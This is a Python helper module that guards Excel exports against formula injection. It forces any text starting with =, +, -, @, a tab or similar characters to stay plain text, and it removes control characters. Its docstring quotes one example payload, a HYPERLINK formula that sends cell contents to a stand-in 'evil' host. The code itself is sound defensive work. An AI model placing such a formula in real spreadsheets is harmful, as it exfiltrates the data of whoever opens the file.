"""Writing Excel workbooks safely, shared by every export (ledgers, statements, figures,
import templates): whatever text a user typed is written as text, never as a formula.

openpyxl stores any string that starts with "=" as a live formula, so a hazard whose
location reads `=HYPERLINK("http://evil/?"&A1,"点击")` would run in the reader's Excel
(CSV/formula injection, OWASP). Spreadsheet programs also evaluate "+", "-" and "@" on
entry, and a leading tab or carriage return hides such a prefix. Cells whose text starts
with any of these are written as strings with Excel's "quote prefix" set, so they show
exactly as typed and stay text even when someone edits the cell.

Characters that XML 1.0 forbids (control characters) are removed: openpyxl refuses them
with an exception, which would turn one odd description into a failed export.

No Django import; used by write-only (streaming) and ordinary workbooks alike.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import IO, Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What makes a spreadsheet program read a cell as a formula or a command (OWASP "CSV
# injection"), plus the full-width equals sign that Excel and WPS accept as "=".
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def clean_text(value: Any) -> Any:
    """Drop the characters XML cannot hold; other values pass unchanged."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _as_text(cell: Any) -> Any:
    # data_type "s" keeps openpyxl from writing <f>; quotePrefix keeps Excel from turning
    # the text into a formula when the cell is edited later.
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def cell(sheet: Any, value: Any) -> Any:
    """A cell for `sheet` (write-only or ordinary) holding `value` safely. Plain values
    that need no protection are returned as they are (cheaper in streaming exports)."""
    value = clean_text(value)
    if not is_formula_like(value):
        return value
    # openpyxl's WriteOnlyCell is a Cell too; ordinary sheets take Cell objects in append.
    return _as_text(WriteOnlyCell(sheet, value=value))


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append`, each value made safe (cells already built pass through,
    their text checked too)."""
    out: list[Any] = []
    for value in values:
        if isinstance(value, Cell):
            value.value = clean_text(value.value)
            out.append(_as_text(value) if is_formula_like(value.value) else value)
        else:
            out.append(cell(sheet, value))
    return out


def append(sheet: Any, values: Iterable[Any]) -> None:
    sheet.append(row(sheet, values))


def neutralise(workbook: Any) -> int:
    """Make every formula-like text cell of an ordinary (not write-only) workbook text;
    returns how many were changed. No export writes formulas on purpose, so any cell
    openpyxl typed as a formula came from text."""
    changed = 0
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for item in line:
                value = item.value
                if isinstance(value, str):
                    cleaned = clean_text(value)
                    if cleaned != value:
                        item.value = cleaned
                    if is_formula_like(cleaned) or item.data_type == "f":
                        _as_text(item)
                        changed += 1
    return changed


def save(workbook: Any, stream: IO[bytes] | None = None) -> bytes:
    """Save `workbook` (neutralised first unless it is write-only, whose cells were made
    safe as they were appended) to `stream`, or return the bytes."""
    if not getattr(workbook, "write_only", False):
        neutralise(workbook)
    if stream is not None:
        workbook.save(stream)
        return b""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
